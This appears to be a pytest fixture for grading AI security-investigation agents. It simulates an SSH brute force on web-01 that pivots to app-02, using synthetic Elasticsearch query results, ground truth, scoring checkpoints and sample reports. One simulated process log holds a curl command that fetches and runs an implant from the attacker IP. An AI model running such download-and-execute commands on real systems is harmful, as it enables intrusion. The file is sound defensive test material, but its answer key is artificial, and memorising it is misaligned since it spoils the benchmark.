"""A recorded case for the judge tests: an SSH brute force on web-01 that pivots to app-02.

The transcripts are what the tools return (ES|QL `columns` + `values`, search `hits`), built here so
that every test reads the same realistic telemetry: the attack rows among benign background (other
hosts, internal and external IPs, cron and backup jobs), and a decoy on db-01.
"""

from __future__ import annotations

import json
from typing import Any

from pytest_soclab.models.report import AgentReport
from pytest_soclab.models.task import Task
from pytest_soclab.models.transcript import GuardDecision, ToolCall

ATTACKER = "185.220.101.34"
HOSTS = {
    "web-01": "10.10.1.15", "app-02": "10.10.1.22", "db-01": "10.10.2.5", "dc-01": "10.10.0.10",
    "backup-01": "10.10.3.7", "mon-01": "10.10.0.30", "ws-07": "10.10.4.57",
}
BENIGN_EXTERNAL = ["151.101.1.69", "140.82.112.3", "91.189.91.38"]
SCANNER = "10.10.0.40"

TASK_JSON: dict[str, Any] = {
    "id": "task-01",
    "title": "SSH brute force on web-01",
    "source_case": "case-01-recon",
    "difficulty": "medium",
    "attack_stage": ["credential-access", "persistence", "lateral"],
    "trigger": {
        "type": "alert",
        "prompt": "Alert 'Potential SSH Brute Force Followed by Successful Login' fired on web-01. Investigate.",
        "pivot": {"host.name": "web-01", "time_utc": "2024-05-14T02:10:00Z",
                  "alert_rule": "Potential SSH Brute Force Followed by Successful Login"},
    },
    "ground_truth": {
        "root_cause": f"SSH brute force from {ATTACKER} against web-01 succeeded for user deploy; the attacker "
                      "downloaded and ran /tmp/.sysupdate (C2 implant) and persisted via /etc/cron.d/sysupdate, "
                      "then pivoted to app-02 over SSH.",
        "attacker_ip": ATTACKER,
        "implicated_hosts": ["web-01", "app-02"],
        "techniques": ["T1110.001", "T1105", "T1053.003", "T1021.004"],
        "key_evidence": [
            {"source": "logs-endpoint.events.process", "must_find": "/tmp/.sysupdate"},
            {"source": "logs-zeek.conn", "must_find": ATTACKER},
            {"source": "logs-endpoint.events.file", "must_find": "/etc/cron.d/sysupdate"},
            {"source": "logs-system.auth", "must_find": "Accepted password for deploy from 10.10.1.15"},
        ],
        "iocs": [ATTACKER, "/tmp/.sysupdate", "/etc/cron.d/sysupdate"],
        "correlation": "The brute force, the download of the implant and the cron persistence on web-01 are one "
                       "chain; the same deploy account then logged in to app-02 from web-01.",
        "conclusion": f"web-01 was compromised by SSH password guessing from {ATTACKER}; the implant "
                      "/tmp/.sysupdate beacons to it and the attacker moved to app-02. db-01's alert is a decoy.",
    },
    "expected_response": {
        "required": ["isolate web-01 and app-02", f"block {ATTACKER} at the perimeter"],
        "over_reaction_penalty": ["wiping db-01", "disabling all admin accounts"],
    },
    "scoring": {
        "checkpoints": [
            {"dim": "evidence_recall", "points": 10, "check": "identified /tmp/.sysupdate as the C2 implant / root process"},
            {"dim": "evidence_recall", "points": 10, "check": f"found the SSH brute force from {ATTACKER} in the zeek conn logs"},
            {"dim": "evidence_recall", "points": 8, "check": "found the cron persistence /etc/cron.d/sysupdate"},
            {"dim": "evidence_recall", "points": 7, "check": "found the accepted password login for deploy on app-02 from web-01"},
            {"dim": "correlation", "points": 15, "check": "linked the brute force, the implant download and the cron persistence on web-01 into one chain"},
            {"dim": "correlation", "points": 10, "check": "linked the pivot from web-01 to app-02 over SSH"},
            {"dim": "conclusion_accuracy", "points": 10, "check": f"named {ATTACKER} as the attacker"},
            {"dim": "conclusion_accuracy", "points": 8, "check": "scoped the compromise to web-01 and app-02 (db-01 is a decoy)"},
            {"dim": "conclusion_accuracy", "points": 7, "check": "mapped the activity to ATT&CK T1110.001, T1105 and T1053.003"},
            {"dim": "response_restraint", "points": 10, "check": f"recommended isolating web-01 and app-02 and blocking {ATTACKER}"},
            {"dim": "response_restraint", "points": 5, "check": "did not over-react (no wipe of db-01, no mass account disable)"},
        ]
    },
}


def task(**overrides: Any) -> Task:
    data = json.loads(json.dumps(TASK_JSON))
    for k, v in overrides.items():
        data[k] = v
    return Task.model_validate(data)


# ------------------------------------------------------------------ tool results


class Calls:
    """Builds a transcript call by call."""

    def __init__(self) -> None:
        self.calls: list[ToolCall] = []

    def _add(self, tool: str, args: dict[str, Any], result: Any, *, ok: bool = True,
             decision: GuardDecision | None = None, error: dict[str, Any] | None = None) -> ToolCall:
        c = ToolCall(seq=len(self.calls) + 1, tool=tool, args=args, result=result, ok=ok,
                     decision=decision, error=error)
        self.calls.append(c)
        return c

    def esql(self, query: str, columns: list[tuple[str, str]], rows: list[list[Any]], *,
             columnar: bool = False) -> ToolCall:
        values: list[list[Any]] = [list(col) for col in zip(*rows)] if columnar else rows
        args: dict[str, Any] = {"query": query}
        if columnar:
            args["columnar"] = True
        result = {"took": 12, "is_partial": False, "columns": [{"name": n, "type": t} for n, t in columns],
                  "values": values}
        return self._add("esql_query", args, result)

    def search(self, index: str, body: dict[str, Any], hits: list[dict[str, Any]],
               aggregations: dict[str, Any] | None = None) -> ToolCall:
        result: dict[str, Any] = {
            "took": 7, "timed_out": False, "_shards": {"total": 1, "successful": 1, "skipped": 0, "failed": 0},
            "hits": {"total": {"value": len(hits), "relation": "eq"}, "max_score": None, "hits": hits},
        }
        if aggregations is not None:
            result["aggregations"] = aggregations
        return self._add("es_search", {"index": index, "body": body}, result)

    def error(self, tool: str, args: dict[str, Any], err_type: str, reason: str) -> ToolCall:
        body = {"error": {"root_cause": [{"type": err_type, "reason": reason}], "type": err_type, "reason": reason},
                "status": 400}
        return self._add(tool, args, None, ok=False, error=body)

    def list_indices(self) -> ToolCall:
        rows = [{"health": "green", "status": "open", "index": n, "docs.count": str(c)} for n, c in (
            (".ds-logs-endpoint.events.process-default-2024.05.14-000001", 48211),
            (".ds-logs-endpoint.events.file-default-2024.05.14-000001", 12007),
            (".ds-logs-zeek.conn-default-2024.05.14-000001", 90321),
            (".ds-logs-system.auth-default-2024.05.14-000001", 3310),
            (".internal.alerts-security.alerts-default-000001", 14),
        )]
        return self._add("list_indices", {"pattern": "*"}, rows)

    def action(self, tool: str, denied: bool = False, **args: Any) -> ToolCall:
        decision = GuardDecision(allow=not denied, reasons=["tier-0 host"] if denied else [], enforced=True)
        if denied:
            err = {"error": {"type": "security_exception", "reason": "action denied by policy"}, "status": 403}
            return self._add(tool, args, None, ok=False, decision=decision, error=err)
        return self._add(tool, args, {"action": tool, **args, "status": "completed"}, decision=decision)


def hit(index: str, id_: str, source: dict[str, Any]) -> dict[str, Any]:
    return {"_index": index, "_id": id_, "_score": None, "_source": source}


PROC_INDEX = ".ds-logs-endpoint.events.process-default-2024.05.14-000001"


def proc(ts: str, host: str, pid: int, exe: str, cmd: str, user: str, parent: str) -> dict[str, Any]:
    return {
        "@timestamp": ts, "event": {"category": ["process"], "type": ["start"], "action": "exec"},
        "host": {"name": host, "ip": [HOSTS[host]], "os": {"type": "linux"}},
        "process": {"pid": pid, "executable": exe, "name": exe.rsplit("/", 1)[-1], "command_line": cmd,
                    "parent": {"name": parent}},
        "user": {"name": user}, "data_stream": {"dataset": "endpoint.events.process", "namespace": "default"},
    }


# The individual queries a thorough investigation makes.


def q_alerts(c: Calls) -> None:
    c.esql(
        'FROM .alerts-security.alerts-default | WHERE host.name == "web-01" | '
        "KEEP @timestamp, kibana.alert.rule.name, host.name, source.ip, user.name | SORT @timestamp | LIMIT 20",
        [("@timestamp", "date"), ("kibana.alert.rule.name", "keyword"), ("host.name", "keyword"),
         ("source.ip", "ip"), ("user.name", "keyword")],
        [["2024-05-14T02:09:58.000Z", "Potential SSH Brute Force Followed by Successful Login", "web-01", ATTACKER,
          "deploy"]],
    )


def q_zeek(c: Calls) -> None:
    c.esql(
        'FROM logs-zeek.conn-default | WHERE destination.ip == "10.10.1.15" AND destination.port == 22 '
        "| STATS attempts = COUNT(*) BY source.ip | SORT attempts DESC | LIMIT 10",
        [("attempts", "long"), ("source.ip", "ip")],
        [[412, ATTACKER], [3, HOSTS["mon-01"]], [1, SCANNER]],
    )


def q_process(c: Calls) -> None:
    c.search(
        "logs-endpoint.events.process-*",
        {"query": {"bool": {"filter": [{"term": {"host.name": "web-01"}},
                                       {"range": {"@timestamp": {"gte": "2024-05-14T02:00:00Z"}}}]}},
         "sort": [{"@timestamp": "asc"}], "size": 50},
        [
            hit(PROC_INDEX, "p1", proc("2024-05-14T02:05:00Z", "web-01", 811, "/usr/sbin/cron",
                                       "/usr/sbin/CRON -f", "root", "cron")),
            hit(PROC_INDEX, "p2", proc("2024-05-14T02:10:04Z", "web-01", 2301, "/usr/bin/curl",
                                       f"curl -s http://{ATTACKER}/x -o /tmp/.sysupdate", "deploy", "bash")),
            hit(PROC_INDEX, "p3", proc("2024-05-14T02:10:09Z", "web-01", 2307, "/tmp/.sysupdate",
                                       "/tmp/.sysupdate --beacon 300", "deploy", "bash")),
            hit(PROC_INDEX, "p4", proc("2024-05-14T02:11:30Z", "web-01", 2340, "/usr/bin/python3",
                                       "/usr/bin/python3 /opt/app/server.py", "www-data", "systemd")),
        ],
    )


def q_file(c: Calls) -> None:
    c.esql(
        'FROM logs-endpoint.events.file-* METADATA _index | WHERE host.name == "web-01" AND file.path LIKE "/etc/cron.d/*" '
        "| KEEP _index, @timestamp, host.name, file.path, event.action, process.executable",
        [("_index", "keyword"), ("@timestamp", "date"), ("host.name", "keyword"), ("file.path", "keyword"),
         ("event.action", "keyword"), ("process.executable", "keyword")],
        [[".ds-logs-endpoint.events.file-default-2024.05.14-000001", "2024-05-14T02:12:44.000Z", "web-01",
          "/etc/cron.d/sysupdate", "creation", "/usr/bin/bash"],
         [".ds-logs-endpoint.events.file-default-2024.05.14-000001", "2024-05-14T01:00:00.000Z", "web-01",
          "/etc/cron.d/e2scrub_all", "modification", "/usr/bin/dpkg"]],
    )


def q_auth(c: Calls) -> None:
    c.esql(
        'FROM logs-system.auth-default | WHERE user.name == "deploy" AND event.outcome == "success" '
        "| KEEP @timestamp, host.name, source.ip, user.name, message | SORT @timestamp",
        [("@timestamp", "date"), ("host.name", "keyword"), ("source.ip", "ip"), ("user.name", "keyword"),
         ("message", "text")],
        [["2024-05-14T02:09:57.000Z", "web-01", ATTACKER, "deploy",
          f"Accepted password for deploy from {ATTACKER} port 40122 ssh2"],
         ["2024-05-14T02:20:13.000Z", "app-02", HOSTS["web-01"], "deploy",
          "Accepted password for deploy from 10.10.1.15 port 51122 ssh2"]],
        columnar=True,
    )


def q_overview(c: Calls) -> None:
    """Background: every host and a spread of internal and external IPs."""
    c.esql(
        "FROM logs-endpoint.events.process-* | STATS events = COUNT(*) BY host.name | SORT events DESC",
        [("events", "long"), ("host.name", "keyword")],
        [[12011, "dc-01"], [9310, "db-01"], [8122, "web-01"], [7001, "app-02"], [5220, "backup-01"],
         [4107, "mon-01"], [2440, "ws-07"]],
    )
    rows = [[210, HOSTS[h], "10.10.0.2"] for h in HOSTS]
    rows += [[44, HOSTS["ws-07"], ip] for ip in BENIGN_EXTERNAL]
    rows += [[120, SCANNER, HOSTS[h]] for h in ("db-01", "dc-01", "backup-01")]
    rows += [[88, HOSTS["backup-01"], HOSTS["db-01"]]]
    c.esql(
        "FROM logs-zeek.conn-* | STATS c = COUNT(*) BY source.ip, destination.ip | SORT c DESC | LIMIT 50",
        [("c", "long"), ("source.ip", "ip"), ("destination.ip", "ip")],
        rows,
    )
    c.search(
        ".alerts-security.alerts-default",
        {"size": 0, "aggs": {"by_host": {"terms": {"field": "host.name"}}}},
        [],
        aggregations={"by_host": {"doc_count_error_upper_bound": 0, "sum_other_doc_count": 0, "buckets": [
            {"key": "web-01", "doc_count": 1}, {"key": "db-01", "doc_count": 1}]}},
    )


def thorough_calls() -> list[ToolCall]:
    c = Calls()
    c.list_indices()
    q_alerts(c)
    q_overview(c)
    q_zeek(c)
    q_process(c)
    q_file(c)
    q_auth(c)
    return c.calls


def partial_calls() -> list[ToolCall]:
    c = Calls()
    c.list_indices()
    q_alerts(c)
    q_zeek(c)
    q_process(c)
    return c.calls


THOROUGH_MD = f"""# Incident report: SSH brute force on web-01

## Summary
web-01 was compromised through SSH password guessing from {ATTACKER} (412 connection attempts to port 22
in the zeek conn logs), followed by a successful login of the `deploy` account. Within seconds the attacker
downloaded `/tmp/.sysupdate` with curl from {ATTACKER} and started it as a C2 implant (`--beacon 300`).
It persisted through the cron file `/etc/cron.d/sysupdate`. The same deploy account then logged in to
app-02 from web-01 (Accepted password for deploy from 10.10.1.15), a lateral movement over SSH.

## Scope
- Compromised: web-01, app-02
- Attacker: {ATTACKER}
- db-01 also had an alert, but its activity is benign and it shows no sign of compromise.

## ATT&CK
T1110.001 (password guessing), T1105 (ingress tool transfer), T1053.003 (cron), T1021.004 (SSH).

## Recommended response
1. Isolate web-01 and app-02.
2. Block {ATTACKER} at the perimeter firewall.
3. Preserve /tmp/.sysupdate for analysis before removing the cron persistence.
"""


def thorough_report() -> AgentReport:
    return AgentReport(markdown=THOROUGH_MD)


PARTIAL_MD = f"""## Findings
An SSH brute force from {ATTACKER} hit web-01 and succeeded. The attacker fetched /tmp/.sysupdate
with curl and ran it (likely a C2 implant). Techniques: T1110.001, T1105.

## Response
Isolate web-01 and block {ATTACKER}.
"""
